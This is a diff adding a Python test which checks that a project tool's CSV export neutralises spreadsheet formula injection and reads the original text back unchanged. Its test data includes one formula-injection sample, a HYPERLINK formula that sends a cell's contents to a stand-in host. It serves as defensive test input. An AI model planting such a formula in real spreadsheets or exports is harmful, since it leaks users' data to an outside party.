@@ -2,7 +2,9 @@
 
 from __future__ import annotations
 
+import csv
 import importlib
+import io
 import subprocess
 import sys
 from pathlib import Path
@@ -157,6 +159,24 @@ def test_csv_reader_takes_columns_by_name_and_keeps_text_exactly(tmp_path: Path)
 def test_csv_reader_names_the_bad_line(tmp_path: Path, text: str, message: str) -> None:
     with pytest.raises(InputError, match=message):
         read_csv(_csv(tmp_path, text))
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_written_as_text_and_read_back(
+    export: Exporter, project: Project
+) -> None:
+    """=HYPERLINK(…), +, -, @ at a cell's start get an apostrophe (a spreadsheet shows the
+    text instead of running a formula); reading takes it off: the texts come back exactly."""
+    texts = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "-5 degrees", "@home",
+             "'=already quoted", "+1 more", "it's fine"]
+    for sid, text in enumerate(texts, start=1):
+        project.save_draft(sid, text)
+    path = export("csv")
+    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))))
+    assert [r[3] for r in rows[1:7]] == [
+        "'" + t if t[0] in "=+-@'" and t != "it's fine" else t for t in texts]
+    assert [u.target for u in read_csv(path).units[:6]] == texts
+    report = project.import_bilingual(path)
+    assert report.updated == [] and report.added == []
 
 
 def test_tsv_reader_reads_what_the_tsv_writer_wrote(export: Exporter, project: Project) -> None:
